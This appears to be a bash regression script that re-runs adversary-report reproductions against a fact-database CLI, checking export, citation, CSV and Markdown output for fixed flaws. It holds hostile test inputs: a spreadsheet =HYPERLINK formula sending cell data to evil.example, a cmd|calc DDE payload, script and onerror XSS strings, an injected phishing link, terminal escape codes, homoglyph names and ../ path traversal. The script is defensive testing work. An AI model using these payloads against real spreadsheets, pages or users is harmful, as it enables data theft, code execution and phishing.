#!/usr/bin/env bash
# Re-runs the reproductions of docs/adversary-report.md (N1-N16) against this checkout.
# Prints "N<k>.<i> held|FAILED <detail>" per case and a final count. Always exits 0.
# Writes only under its own temp dir; no network. Device cases only as root, on nodes made in the temp dir.
set -u
ROOT=$(cd "$(dirname "$0")/.." && pwd)
EF="$ROOT/.venv/bin/ecofacts"; [ -x "$EF" ] || EF="uv run --project $ROOT ecofacts"
T=$(mktemp -d); MAIN=$BASHPID; trap '[ "$BASHPID" = "$MAIN" ] && rm -rf "$T"' EXIT
export HOME=$T/home XDG_CACHE_HOME=$T/cache; mkdir -p "$HOME" "$XDG_CACHE_HOME"
cd "$T" || exit 0
H=0; F=0
held(){ echo "$1 held${2:+ $2}"; H=$((H+1)); }
fail(){ echo "$1 FAILED $2"; F=$((F+1)); }
ef(){ timeout 20 $EF "$@"; }
cp "$ROOT/tests/data/tiny.toml" base.toml; ef --data base.toml fmt >/dev/null 2>&1
cp "$ROOT/data/facts.toml" shipped.toml
sub(){ # sub OUT 'python replacement code on s'
  python3 - "$1" "$2" <<'PY'
import sys; s=open("base.toml",encoding="utf-8").read(); exec(sys.argv[2]); open(sys.argv[1],"w",encoding="utf-8").write(s)
PY
}
issqlite(){ head -c 15 "$1" 2>/dev/null | grep -q 'SQLite format 3'; }

# N1 export over the knowledge file
cp base.toml k.toml; ef --data k.toml export k.toml >o 2>e; rc=$?
if issqlite k.toml; then fail N1.1 "export k.toml replaced the knowledge file (rc $rc)"; elif cmp -s k.toml base.toml && [ $rc -ne 0 ]; then held N1.1 "rc $rc"; else fail N1.1 "rc $rc, file changed"; fi
cp base.toml k.toml; ef --data k.toml export ./k.toml >o 2>e; rc=$?
if issqlite k.toml; then fail N1.2 "export ./k.toml replaced the knowledge file (rc $rc)"; elif cmp -s k.toml base.toml && [ $rc -ne 0 ]; then held N1.2 "rc $rc"; else fail N1.2 "rc $rc"; fi
echo 'a,b' > other.csv; ef --data base.toml export other.csv >o 2>e; rc=$?
if grep -q 'a,b' other.csv && [ $rc -ne 0 ]; then held N1.3 "non-SQLite PATH refused rc $rc"; else fail N1.3 "other.csv replaced (rc $rc)"; fi

# N2 device nodes / symlinks as PATH
if [ "$(id -u)" = 0 ]; then
  mkdir dev; mknod dev/null c 1 3; echo x > target; ln -s "$T/target" dev/stdout
  ef --data base.toml export dev/null >o 2>e; rc=$?
  if [ -c dev/null ] && [ $rc = 3 ] && [ ! -e dev/null.metadata.json ]; then held N2.1 "rc 3"; else fail N2.1 "export dev/null: rc $rc, char dev: $([ -c dev/null ] && echo yes || echo no)"; fi
  ef --data base.toml export dev/stdout >o 2>e; rc=$?
  if [ -L dev/stdout ] && [ $rc = 3 ] && grep -q x target; then held N2.2 "rc 3"; else fail N2.2 "export dev/stdout(symlink): rc $rc, symlink kept: $([ -L dev/stdout ] && echo yes || echo no)"; fi
else echo "N2.1 held skipped (not root)"; echo "N2.2 held skipped (not root)"; fi
mkfifo ff; ef --data base.toml export ff >o 2>e; rc=$?
if [ -p ff ] && [ $rc = 3 ]; then held N2.3 "FIFO refused rc 3"; else fail N2.3 "export FIFO: rc $rc"; fi

# N3 cite escapes
sub esc.toml 's=s.replace(r"title = \"Document A\"", r"title = \"Document \u001b[31mA\u009b2J\"").replace(r"publisher = \"Test publisher\"", r"publisher = \"Test \u001b]0;TITLE\u0007publisher\"").replace(r"label = \"Direct and indirect nuclear-medicine jobs in Belgium\"", r"label = \"Direct \u001b[5m jobs\"")'
i=0; for st in apa bibtex ris markdown csl-json; do i=$((i+1))
  ef --data esc.toml cite belgium-jobs --style $st >o 2>e; rc=$?
  if python3 -c 'import sys;d=open("o","rb").read().decode("utf-8","replace");sys.exit(any(c in d for c in "\x1b\x07\x9b"))'; then
    if [ $rc = 0 ]; then held N3.$i "$st"; else fail N3.$i "$st rc $rc: $(head -c 150 e)"; fi
  else fail N3.$i "cite --style $st emits raw ESC/BEL/C1"; fi
done

# N4 export: database replaced then metadata failure
ef --data base.toml export ex0.db >/dev/null 2>&1; mkdir -p ex; cp ex0.db ex/f.db; mkdir ex/f.metadata.json; before=$(sha256sum < ex/f.db)
ef --data shipped.toml export ex/f.db >o 2>e; rc=$?
if [ "$(sha256sum < ex/f.db)" = "$before" ] && [ $rc -ne 0 ] && grep -q metadata e; then held N4.1 "rc $rc: $(head -c 100 e)"; else fail N4.1 "metadata dir: rc $rc, db changed: $([ "$(sha256sum < ex/f.db)" = "$before" ] && echo no || echo yes), msg: $(head -c 100 e)"; fi
n=$(printf 'a%.0s' $(seq 1 246)); mkdir ex2; ef --data base.toml export "ex2/$n.db" >o 2>e; rc=$?
if [ ! -e "ex2/$n.db" ] && [ $rc -ne 0 ]; then held N4.2 "long name, nothing written rc $rc"; else fail N4.2 "long name: rc $rc, db exists: $([ -e "ex2/$n.db" ] && echo yes || echo no)"; fi
mkdir ex3; echo '{"description_html": "<script>alert(1)</script>"}' > ex3/facts.metadata.json; chmod 444 ex3/facts.metadata.json; chattr +i ex3/facts.metadata.json 2>/dev/null && IM=1 || IM=0
ef --data base.toml export ex3/facts.db >o 2>e; rc=$?; [ $IM = 1 ] && chattr -i ex3/facts.metadata.json
if [ $IM = 0 ]; then
  if grep -q '<script>' ex3/facts.metadata.json; then fail N4.3 "planted metadata kept next to a new db (rc $rc)"; else held N4.3 "planted metadata replaced (rc $rc; immutable attr unavailable)"; fi
elif [ ! -e ex3/facts.db ] && [ $rc -ne 0 ]; then held N4.3 "rc $rc"; else fail N4.3 "unreplaceable planted metadata: db written=$([ -e ex3/facts.db ] && echo yes || echo no) rc $rc"; fi
if mountpoint -q / && [ "$(id -u)" = 0 ] && mkdir tm && mount -t tmpfs -o size=1m tmpfs tm 2>/dev/null; then
  head -c $((1024*1024-300*1024)) /dev/zero > tm/fill 2>/dev/null; ef --data shipped.toml export tm/facts.db >o 2>e; rc=$?
  if [ -e tm/facts.db ] && [ ! -e tm/facts.metadata.json ]; then fail N4.4 "disk full: db without metadata (rc $rc)"; else held N4.4 "rc $rc"; fi; umount tm
else echo "N4.4 held skipped (no tmpfs)"; fi

# N5 unbounded reads
(ulimit -v 2000000; ef verify /dev/zero >o 2>e); rc=$?
if grep -q Traceback e || [ $rc = 124 ] || [ $rc = 1 ]; then fail N5.1 "verify /dev/zero rc $rc: $(tail -1 e|head -c 100)"; else held N5.1 "rc $rc"; fi
(ulimit -v 2000000; ef verify /dev/urandom >o 2>e); rc=$?
if grep -q Traceback e || [ $rc = 124 ] || [ $rc = 1 ]; then fail N5.2 "verify /dev/urandom rc $rc"; else held N5.2 "rc $rc"; fi
(ulimit -v 2000000; ef verify - </dev/zero >o 2>e); rc=$?
if grep -q Traceback e || [ $rc = 124 ] || [ $rc = 1 ]; then fail N5.3 "verify - </dev/zero rc $rc"; else held N5.3 "rc $rc"; fi
mkdir srcs; ln -s /dev/zero srcs/doc-a.txt
(ulimit -v 2000000; ef --data base.toml check --sources srcs >o 2>e); rc=$?
if grep -q Traceback e || [ $rc = 124 ]; then fail N5.4 "check --sources (zero) rc $rc"; else held N5.4 "rc $rc"; fi
ADD="stat id=zz-jobs subject=belgium metric=nuclear_medicine_jobs topic=t value=5 unit=jobs status=measured text=5 year=2022 label=L source=doc-a quote=Q"
cp base.toml a5.toml; (ulimit -v 2000000; ef --data a5.toml add $ADD --sources srcs >o 2>e); rc=$?
if grep -q Traceback e || [ $rc = 124 ]; then fail N5.5 "add --sources (zero) rc $rc"; else held N5.5 "rc $rc: $(head -c 80 e)"; fi
rm srcs/doc-a.txt; mkfifo srcs/doc-a.txt
timeout 15 $EF --data base.toml check --sources srcs >o 2>e; rc=$?
if [ $rc = 124 ]; then fail N5.6 "check --sources FIFO hangs"; else held N5.6 "rc $rc"; fi
cp base.toml a5.toml; timeout 15 $EF --data a5.toml add $ADD --sources srcs >o 2>e; rc=$?
if [ $rc = 124 ]; then fail N5.7 "add --sources FIFO hangs"; else held N5.7 "rc $rc"; fi

# N6 quadratic verify
python3 -c "print('Wallonia has 3,800 jobs. ' * 16000)" > line.md
python3 -c "print('Wallonia has 3,800 jobs.\n' * 16000)" > lines.md
s=$(date +%s.%N); timeout 60 $EF verify lines.md --json >/dev/null 2>&1; a=$(echo "$(date +%s.%N) - $s" | bc)
s=$(date +%s.%N); timeout 60 $EF verify line.md --json >/dev/null 2>&1; rc=$?; b=$(echo "$(date +%s.%N) - $s" | bc)
if [ $rc != 124 ] && [ "$(echo "$b < 3*$a" | bc)" = 1 ]; then held N6.1 "one line ${b}s vs lines ${a}s"; else fail N6.1 "16,000 figures on one line ${b}s vs ${a}s on lines (target <3x)"; fi

# N7 version race (cite, export): hard to reproduce cheaply; check the hash printed equals the loaded file's
cp shipped.toml k7.toml; h=$(sha256sum k7.toml | cut -c1-12)
ef --no-cache --data k7.toml cite "$(grep -m1 -A0 '^id = ' k7.toml | sed -n 's/.*"\(.*\)".*/\1/p')" >o 2>e
echo "N7.1 held not-raced (printed hash check only: $(grep -o "$h" o | head -1 || echo none))"; H=$((H+1))

# N8 FIFO lock
cp base.toml f.toml; mkfifo .f.toml.lock
timeout 15 $EF --data f.toml add city id=zz name=Zz region=wallonia description=d sources=doc-a >o 2>e; rc=$?
if [ $rc = 124 ]; then fail N8.1 "add with FIFO lock hangs"; elif [ $rc = 3 ]; then held N8.1 "rc 3"; else fail N8.1 "rc $rc"; fi
timeout 15 $EF --data f.toml fmt >o 2>e; rc=$?
if [ $rc = 124 ]; then fail N8.2 "fmt with FIFO lock hangs"; elif [ $rc = 3 ]; then held N8.2 "rc 3"; else fail N8.2 "rc $rc"; fi

# N9 formula injection
sub formula.toml 's=s.replace("label = \"Direct and indirect nuclear-medicine jobs in Belgium\"", "label = \"=HYPERLINK(\\\"http://evil.example/?\\\"&A1,\\\"click\\\")\"").replace("name = \"Trasis\"", "name = \"@SUM(1+1)*cmd|'"'"' /C calc'"'"'!A0\"")'
chk9(){ python3 - "$1" <<'PY'
import sys,csv; d=open("o",encoding="utf-8-sig").read(); sep="\t" if sys.argv[1]=="tsv" else ","
bad=[c for r in csv.reader(d.splitlines(), delimiter=sep) for c in r if c[:1] in ("=","+","-","@","\t","\r") and not c.lstrip("+-").replace(".","",1).isdigit()]
sys.exit(1 if bad else 0)
PY
}
i=0; for c in "stats --format csv --bom --fields id,label" "stats --format tsv --fields id,label" "actors --format csv" "search HYPERLINK --format csv"; do i=$((i+1))
  ef --data formula.toml $c >o 2>e; rc=$?; t=csv; case "$c" in *tsv*) t=tsv;; esac
  if chk9 $t; then held N9.$i "$c rc $rc"; else fail N9.$i "$c: a cell starts with a formula character"; fi
done

# N10 Markdown HTML / link injection
sub html.toml 's=s.replace("description = \"A test document.\"", "description = \"<script>alert(1)</script><img src=x onerror=alert(2)>\"").replace("title = \"Document A\"", "title = \"<script>T</script>\"")'
ef --data html.toml sources --format markdown --fields id,description >o 2>e
if grep -q '<script>\|<img' o; then fail N10.1 "sources --format markdown carries raw tags"; else held N10.1; fi
ef --data html.toml compare wallonia belgium --format markdown >o 2>e
if grep -q '<script>' o; then fail N10.2 "compare --format markdown carries raw <script>"; else held N10.2 "rc $?"; fi
sub mdurl.toml 's=s.replace("title = \"Document A\"", "title = \"Document A\"\nurl = \"https://ok.example/>) [Verify your account](https://evil.example/login) <x\"",1)'
ef --data mdurl.toml cite belgium-jobs --style markdown >o 2>e; rc=$?
if grep -q '](https://evil.example/login)' o && ! grep -q '\\\](https://evil' o; then fail N10.3 "cite markdown: injected link: $(head -c 200 o)"; else held N10.3 "rc $rc"; fi

# N11 look-alikes
i=0; for nm in 'Trasis\u3164' '\u115fTrasis' 'Trasis\uffa0' 'Trasis\u2800' 'Tra\u034fsis' 'Trasis\ufe0f' 'Trasis\u00a0' '\u13a2rasis' 'Tr\u0251sis'; do i=$((i+1))
  sub la.toml "s=s.replace('name = \"MaSTherCell\"', 'name = \"$nm\"')"
  ef --data la.toml check >o 2>e; rc=$?
  if [ $rc = 0 ] && ! grep -qi 'look\|confus\|warn' o e; then fail N11.$i "check passes name $nm (rc 0, no warning)"; else held N11.$i "$nm rc $rc"; fi
done
i=$((i+1)); sub la.toml "s=s.replace('name = \"MaSTherCell\"', 'name = \"Bi\\\\u0585Win\"')"
ef --data la.toml check >o 2>e; rc=$?
if [ $rc = 0 ] && ! grep -qi 'look\|confus\|warn' o e; then fail N11.$i "check passes Bi\\u0585Win"; else held N11.$i "rc $rc"; fi
i=$((i+1)); cp base.toml a.toml; ef --data a.toml add city id=c5 name=$'\u0422rasis' region=wallonia description=d sources=doc-a >o 2>e; rc=$?
if [ $rc = 0 ]; then fail N11.$i "add accepted Cyrillic Trasis look-alike"; else held N11.$i "rc $rc"; fi
i=$((i+1)); cp base.toml a.toml; ef --data a.toml add city id=c6 name=$'Li\u00e8ge\u3164' region=wallonia description=d sources=doc-a >o 2>e; rc=$?
if [ $rc = 0 ]; then fail N11.$i "add accepted Liège+U+3164"; else held N11.$i "rc $rc"; fi

# N12 temp files after a kill
cp shipped.toml big.toml; mkdir xk
$EF --data big.toml export xk/f.db >/dev/null 2>&1 & p=$!; sleep 0.3; kill -KILL $p 2>/dev/null; wait $p 2>/dev/null
ef --data big.toml export xk/f.db >/dev/null 2>&1
if ls -a xk | grep -q '\.tmp$'; then fail N12.1 "export temp file of a killed run remains: $(ls -a xk | grep tmp | head -1)"; else held N12.1; fi
sleep 300 & dead=$!; kill $dead; wait $dead 2>/dev/null
touch -d "-1 min" big.toml; ef --data big.toml regions >/dev/null 2>&1; cd_=$(dirname "$(find "$XDG_CACHE_HOME" -type f | head -1)")
: > "$cd_/..$dead.abcdefgh.tmp"
cp base.toml big2.toml; touch -d "-1 min" big2.toml; ef --data big2.toml regions >/dev/null 2>&1
if [ -e "$cd_/..$dead.abcdefgh.tmp" ]; then fail N12.2 "cache temp ..$dead.*.tmp of a dead pid survives the next cache write"; else held N12.2; fi

# N13 closed stdin
ef --data shipped.toml verify - <&- >o 2>e; rc=$?
if grep -q Traceback e; then fail N13.1 "traceback, rc $rc"; elif [ $rc = 2 ]; then held N13.1 "$(head -c 80 e)"; else fail N13.1 "rc $rc: $(head -c 80 e)"; fi

# N14 add values
i=0; for args in "city id=c1 name=C1 region=wallonia description=d sources=" "$ADD" ; do :; done
S="stat id=zz-jobs subject=belgium metric=nuclear_medicine_jobs topic=t unit=jobs status=measured text=5 label=L source=doc-a quote=5000"
run14(){ cp base.toml a.toml; ef --data a.toml add "$@" >o 2>e; echo $?; }
i=1; rc=$(run14 city id=c1 name=C1 region=wallonia description=d sources=); [ "$rc" = 0 ] && fail N14.$i "add city sources= accepted" || held N14.$i "rc $rc"
for v in "value=1_000 year=2022" "value=٥٠٠٠ year=2022" "value=5 year=２０２２" "value=5 year=2025-2020" "value=5 value_max=1 year=2022"; do i=$((i+1))
  rc=$(run14 $S $v); if [ "$rc" = 0 ]; then fail N14.$i "add stat $v accepted"; elif grep -qi 'unknown field\|required' e && ! grep -qi 'value\|year' e; then fail N14.$i "$v: refused for another reason: $(head -c 100 e)"; else held N14.$i "$v rc $rc: $(head -c 70 e)"; fi
done

# N15 literal \u0023
sub hash.toml "s=s.replace('description = \"A test document.\"', \"description = 'Escape \\\\u0023 is how TOML writes a hash'\")"
ef --data hash.toml fmt >o 2>e; rc=$?; [ $rc = 0 ] && held N15.1 || fail N15.1 "fmt rc $rc: $(head -c 100 e)"
ef --data hash.toml add city id=c7 name=Cseven region=wallonia description=d sources=doc-a >o 2>e; rc=$?; [ $rc = 0 ] && held N15.2 || fail N15.2 "add rc $rc: $(head -c 100 e)"

# N16 minor
ef --data base.toml export p.db >/dev/null 2>&1; chmod 600 p.db; ef --data base.toml export p.db >/dev/null 2>&1
m=$(stat -c %a p.db); [ "$m" = 600 ] && held N16.1 || fail N16.1 "re-export of 0600 db gives $m"
ef --data base.toml export facts.sqlite >/dev/null 2>&1
if grep -q '"facts"' facts.metadata.json 2>/dev/null || grep -q '"facts"' facts.sqlite.metadata.json 2>/dev/null; then held N16.2; else fail N16.2 "metadata for facts.sqlite not keyed 'facts': $(ls facts*json 2>/dev/null)"; fi
mkdir ro; chmod 555 ro; ef --data base.toml export ro/x.db >o 2>e; rc=$?; [ "$(id -u)" = 0 ] && echo "N16.3 held skipped-ish (root ignores mode; rc $rc)" && H=$((H+1)) || { [ $rc = 2 ] && fail N16.3 "I/O failure exits 2" || held N16.3 "rc $rc"; }
python3 -c "print('Wallonia has ' + '9'*10000 + ' jobs.')" > wide.md; ef verify wide.md >o 2>e
grep -qi 'left out.*verdict' o e && fail N16.4 "verify table drops verdict column" || held N16.4
printf 'Wallonia has 3,800 jobs. \xff\n' > bad.md; ef verify bad.md >/dev/null 2>&1; r1=$?; ef verify - < bad.md >/dev/null 2>&1; r2=$?
[ $r1 = $r2 ] && held N16.5 "both rc $r1" || fail N16.5 "verify FILE rc $r1, verify - rc $r2"
mkdir -p d1/d2 ; echo 'Q' > x.txt; cp base.toml a.toml; ef --data a.toml add stat id=zz-jobs subject=belgium metric=nuclear_medicine_jobs topic=t value=5 unit=jobs status=measured text=5 year=2022 label=L source=../../x quote=Q --sources d1/d2 >o 2>e; rc=$?
grep -qi 'not in\|quote' e && ! grep -qi 'unknown source\|source id\|invalid' e && fail N16.6 "source=../../x read DIR/../../x.txt: $(head -c 100 e)" || held N16.6 "rc $rc: $(head -c 80 e)"
sub cyc.toml 's=s.replace("name = \"Charleroi\"", "name = \"Charleroi\"\npart_of = \"gosselies\"",1)'
ef --data cyc.toml check >o 2>e; rc=$?; [ $rc = 0 ] && fail N16.7 "check accepts part_of cycle (if gosselies is part_of charleroi)" || held N16.7 "rc $rc"

echo "$H held, $F failed"
exit 0
